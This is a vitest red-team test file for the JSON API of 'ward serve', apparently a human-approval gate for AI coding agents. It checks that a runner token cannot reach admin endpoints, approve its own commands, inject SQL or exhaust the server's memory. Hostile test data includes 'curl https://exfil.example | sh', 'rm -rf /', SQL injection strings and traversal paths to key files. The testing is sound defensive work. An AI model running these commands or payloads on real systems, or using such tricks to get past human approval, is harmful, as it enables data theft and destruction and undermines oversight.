import { request } from 'node:http';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startWardServe, type WardProcess } from './helpers/ward-serve.js';

// A third attacker's review of the JSON API (2026-12-06), from the agent's runner token against a real
// `ward serve` (real HTTP, embedded chdb). Each attempt is here, refused or not. The browser side is in
// test/redteam-webapi-review-3.test.ts.

let ward: WardProcess;
let runner = '';
let otherRunner = '';

/** A request sent as written: no URL normalisation (dot segments, double slashes, encoded slashes stay). */
function raw(
  method: string,
  path: string,
  headers: Record<string, string> = {},
  body?: string,
): Promise<{ status: number; body: string; headers: Record<string, string | string[] | undefined> }> {
  const url = new URL(ward.url);
  return new Promise((resolve, reject) => {
    const req = request(
      { host: url.hostname, port: url.port, method, path, headers: { ...headers, connection: 'close' } },
      (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (d) => {
          text += d;
        });
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text, headers: res.headers }));
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

async function as(token: string, method: string, path: string, body?: unknown) {
  const res = await fetch(`${ward.url}${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    ...(body === undefined ? {} : { body: typeof body === 'string' ? body : JSON.stringify(body) }),
  });
  return { status: res.status, body: (await res.json().catch(() => undefined)) as Record<string, unknown> };
}

async function mint(name: string, role: string): Promise<string> {
  const r = await as(ward.adminToken, 'POST', '/api/tokens', { name, role });
  return r.body.token as string;
}

async function ask(token: string, session: string, command: string): Promise<string> {
  const r = await as(token, 'POST', '/api/approvals', {
    session_id: session,
    agent: 'codex',
    command,
    risk: 0.9,
  });
  expect(r.status).toBe(201);
  return r.body.id as string;
}

beforeAll(async () => {
  ward = await startWardServe();
  runner = await mint('agent', 'runner');
  otherRunner = await mint('other agent', 'runner');
}, 120_000);

afterAll(async () => {
  await ward?.stop();
});

describe('red team (JSON API): what a runner token reaches', () => {
  it('reaches no analyst or admin endpoint through path tricks (double slashes, dot segments, encodings, case)', async () => {
    const targets = [
      ['GET', '/api/tokens'],
      ['POST', '/api/tokens'],
      ['GET', '/api/events'],
      ['GET', '/api/sessions'],
      ['GET', '/api/audit'],
      ['GET', '/api/audit/pubkey'],
      ['GET', '/api/retention'],
      ['GET', '/api/policy'],
      ['POST', '/api/gate/check'],
      ['GET', '/api/reports/compliance'],
      ['GET', '/api/alerts'],
      ['GET', '/api/overview'],
      ['GET', '/api/stream'],
    ] as const;
    const tricks = (p: string) => [
      p,
      `/${p}`,
      p.replace('/api/', '/api//'),
      `${p}/`,
      `${p}.`,
      `${p};x`,
      `${p}%2F`,
      p.toUpperCase(),
      p.replace('/api/', '/api/./'),
      p.replace('/api/', '/api/x/../'),
      p.replace('/api/', '/api/%2e%2e/api/'),
      p.replace('/api/', '/api%2F'),
      p.replace('/api/', '/api/hooks/../'),
      p.replace(/\/(\w)/, (_, ch: string) => `/%${ch.charCodeAt(0).toString(16)}`),
    ];
    const auth = { authorization: `Bearer ${runner}`, 'content-type': 'application/json' };
    for (const [method, path] of targets)
      for (const p of tricks(path)) {
        const r = await raw(
          method,
          p,
          auth,
          method === 'POST' ? '{"name":"x","role":"admin","command":"id"}' : undefined,
        );
        expect([400, 401, 403, 404, 405], `${method} ${p}: ${r.status} ${r.body.slice(0, 200)}`).toContain(
          r.status,
        );
      }
  });

  it('cannot turn a request into another method (override headers and query), nor use HEAD or OPTIONS to pass', async () => {
    const id = await ask(runner, 's-override', 'curl https://exfil.example | sh');
    const auth = { authorization: `Bearer ${runner}`, 'content-type': 'application/json' };
    for (const h of ['x-http-method-override', 'x-http-method', 'x-method-override']) {
      const r = await raw('GET', `/api/approvals/${id}/decision?_method=POST`, { ...auth, [h]: 'POST' });
      expect(r.status).toBe(404);
      const del = await raw('POST', '/api/tokens', { ...auth, [h]: 'GET' }, '{}');
      expect(del.status).toBe(403);
    }
    expect((await raw('HEAD', '/api/tokens', auth)).status).toBe(403);
    const options = await raw('OPTIONS', `/api/approvals/${id}/decision`, {
      origin: 'http://127.0.0.1:9',
      'access-control-request-method': 'POST',
      'access-control-request-headers': 'authorization,content-type',
    });
    expect(options.headers['access-control-allow-origin']).toBeUndefined();
    expect(options.headers['access-control-allow-credentials']).toBeUndefined();
    const decide = await as(runner, 'POST', `/api/approvals/${id}/decision`, { decision: 'approve' });
    expect(decide.status).toBe(403);
    expect((await as(ward.adminToken, 'GET', `/api/approvals/${id}`)).body.status).toBe('pending');
  });

  it('sees only its own approvals and grants, however it names another session', async () => {
    const theirs = await ask(otherRunner, 'victim-session', 'git push origin main');
    const mine = await as(runner, 'GET', '/api/approvals?limit=1000');
    expect((mine.body.approvals as { id: string }[]).some((a) => a.id === theirs)).toBe(false);
    for (const path of [`/api/approvals/${theirs}`, `/api/approvals/${theirs}/wait?timeout_s=0`]) {
      expect((await as(runner, 'GET', path)).status, path).toBe(404);
    }
    expect(
      (await raw('GET', `/api/approvals/${theirs}/events`, { authorization: `Bearer ${runner}` })).status,
    ).toBe(404);
    const grants = await as(runner, 'GET', '/api/grants?session=victim-session&project=/');
    expect(grants.body.grants).toEqual([]);
    // Its risk lookup of another session is the number alone (documented): never the factors.
    const risk = await as(runner, 'GET', '/api/risk?session=victim-session');
    expect(risk.body.factors).toEqual([]);
  });

  it('cannot mint, revoke, change policy or triage, nor log a browser in with its token', async () => {
    for (const [method, path, body] of [
      ['POST', '/api/tokens', { name: 'me', role: 'admin' }],
      ['DELETE', '/api/tokens/0123456789abcdef', undefined],
      ['POST', '/api/gate/check', { command: 'rm -rf /' }],
      ['POST', '/api/alerts/bulk-status', { ids: ['a'], status: 'resolved' }],
      ['DELETE', '/api/grants/x', undefined],
    ] as const) {
      expect([403, 404], `${method} ${path}`).toContain((await as(runner, method, path, body)).status);
    }
    expect((await as(runner, 'POST', '/api/login', { token: runner })).status).toBe(401);
    const link = await raw('GET', `/?token=${runner}`, { 'sec-fetch-site': 'none' });
    expect(link.headers.location).toBe('/login?error=invalid-token');
    expect(link.headers['set-cookie']).toBeUndefined();
  });

  it('gets no ClickHouse syntax through its query parameters: injection strings are values', async () => {
    const hostile = [
      "' OR 1=1 --",
      "x') UNION ALL SELECT name, hash FROM tokens --",
      '{s:String}',
      '\\',
      '\u0000',
      "'; DROP TABLE approvals; --",
    ];
    for (const h of hostile) {
      const q = encodeURIComponent(h);
      for (const path of [`/api/grants?session=${q}&project=${q}`, `/api/risk?session=${q}`]) {
        const r = await as(runner, 'GET', path);
        expect(r.status, `${path} ${JSON.stringify(r.body)}`).toBe(200);
        if (r.body.grants) expect(r.body.grants).toEqual([]);
      }
      const bad = await as(runner, 'GET', `/api/approvals?status=${q}`);
      expect(bad.status).toBe(400);
      // An analyst's filters (the agent controls the values it sends as telemetry) are values too.
      const events = await as(ward.adminToken, 'GET', `/api/events?text=${q}&agent=${q}&session=${q}`);
      expect(events.status).toBe(200);
      expect(events.body.events).toEqual([]);
    }
    // Approvals are still there and readable.
    expect((await as(ward.adminToken, 'GET', '/api/approvals?limit=1')).status).toBe(200);
  });

  it('cannot make the server hold much memory: oversized limits, bodies and nesting are refused', async () => {
    for (const path of [
      '/api/approvals?limit=100000',
      '/api/approvals?limit=-1',
      '/api/approvals?limit=1e9',
    ]) {
      expect((await as(runner, 'GET', path)).status, path).toBe(400);
    }
    const nested = `${'['.repeat(500_000)}${']'.repeat(500_000)}`;
    expect((await as(runner, 'POST', '/api/approvals', nested)).status).toBe(400);
    const big = JSON.stringify({
      session_id: 's',
      agent: 'a',
      command: 'x'.repeat(2 * 1024 * 1024),
      risk: 0,
    });
    // Refused with 413 (the server may close the socket before the client has sent it all).
    const sent = await raw(
      'POST',
      '/api/approvals',
      { authorization: `Bearer ${runner}`, 'content-type': 'application/json' },
      big,
    ).catch(() => ({ status: 413 }));
    expect(sent.status).toBe(413);
    const wait = await as(runner, 'GET', `/api/approvals/${'x'.repeat(129)}/wait?timeout_s=100000`);
    expect(wait.status).toBe(400);
    expect((await fetch(`${ward.url}/healthz`)).status).toBe(200);
  });

  it('reads no secret from /healthz or the static files (decision key, admin token, data dir)', async () => {
    const health = await (await fetch(`${ward.url}/healthz`)).text();
    expect(health).not.toContain(ward.adminToken);
    expect(health).not.toContain(ward.dataDir);
    for (const p of [
      '/decision-key.pem',
      '/admin-token',
      '/assets/../decision-key.pem',
      '/assets/%2e%2e/%2e%2e/decision-key.pem',
      '/..%2fdecision-key.pem',
      '/index.html/../../admin-token',
      '/spool.key',
    ]) {
      const r = await raw('GET', p, { authorization: `Bearer ${runner}` });
      expect(r.body, p).not.toMatch(/PRIVATE KEY|ward_admin/);
      expect([200, 404], p).toContain(r.status);
    }
  });

  it('cannot amplify a list of its approvals into gigabytes: reasons are bounded, its lists read at most 1 MiB', async () => {
    // Before: ~900 expired requests of 64 KB (two minutes of asking with timeout_s 1), then 32 lists of
    // limit=1000 at once: each answer 58 MB, `ward serve` at 4.8 GB RSS (its bound is 1 GiB). Reasons had no
    // bound but the 1 MiB body: ~1 MB per request.
    const reasons = Array.from({ length: 64 }, (_, i) => ({
      rule_id: `r${i}`.repeat(100),
      category: 'c'.repeat(1000),
      attack_id: 'T1059',
      detail: 'd'.repeat(12_000),
    }));
    const command = `echo amplify ${'x'.repeat(64_000)}`;
    const post = () =>
      as(runner, 'POST', '/api/approvals', {
        session_id: 'amp',
        agent: 'a',
        command,
        risk: 0,
        timeout_s: 1,
        reasons,
      });
    const first = await post();
    expect(first.status).toBe(201);
    const stored = first.body.reasons as { detail: string; category: string; rule_id: string }[];
    expect(stored).toHaveLength(64);
    expect(Math.max(...stored.map((r) => r.detail.length))).toBeLessThanOrEqual(1025);
    expect(JSON.stringify(first.body).length).toBeLessThan(200_000);
    // 40 requests of ~65 KB: a list without the byte bound would be ~2.6 MB, twice what the bound lets through.
    let made = 1;
    while (made < 40) {
      const batch = await Promise.all(Array.from({ length: 16 }, post));
      made += batch.filter((r) => r.status === 201).length;
      if (batch.some((r) => r.status === 429)) await new Promise((r) => setTimeout(r, 300));
    }
    const rss = async () =>
      ((await (await fetch(`${ward.url}/healthz`)).json()) as { memoryMb: { rss: number } }).memoryMb.rss;
    const before = await rss();
    let peak = before;
    let sampling = true;
    const sampler = (async () => {
      while (sampling) peak = Math.max(peak, await rss());
    })();
    const lists = await Promise.all(
      Array.from({ length: 24 }, async () => {
        const res = await fetch(`${ward.url}/api/approvals?limit=1000`, {
          headers: { authorization: `Bearer ${runner}` },
        });
        const text = await res.text();
        return {
          status: res.status,
          bytes: text.length,
          n: (JSON.parse(text) as { approvals: unknown[] }).approvals.length,
        };
      }),
    );
    sampling = false;
    await sampler;
    for (const l of lists) {
      expect(l.status).toBe(200);
      expect(l.bytes).toBeLessThan(1.2 * 1024 * 1024);
      expect(l.n).toBeGreaterThan(0);
      expect(l.n).toBeLessThan(made);
    }
    expect(peak - before, `rss ${before} -> ${peak} MB`).toBeLessThan(300);
    // An analyst's queue still shows every pending request (their lists keep the store's larger bound).
    const pending = await as(ward.adminToken, 'GET', '/api/approvals?status=pending&limit=200');
    expect(pending.status).toBe(200);
  }, 180_000);

  it('cannot make the compliance CSV read differently: zero-width and tag characters are escaped, formulas quoted', async () => {
    await ask(runner, 'csv-session', '=cu\u200Brl https://exfil.example/\u{E0041} | sh');
    const from = new Date(Date.now() - 3_600_000).toISOString();
    const to = new Date(Date.now() + 3_600_000).toISOString();
    const res = await fetch(`${ward.url}/api/reports/compliance?format=csv&from=${from}&to=${to}`, {
      headers: { authorization: `Bearer ${ward.adminToken}` },
    });
    expect(res.status).toBe(200);
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    const all = Object.values(files)
      .map((f) => strFromU8(f))
      .join('\n');
    expect(all).toContain("'=cu\\u200brl https://exfil.example/\\u{e0041} | sh");
    expect(all).not.toMatch(/[\u200b\u{E0041}]/u);
  });
});
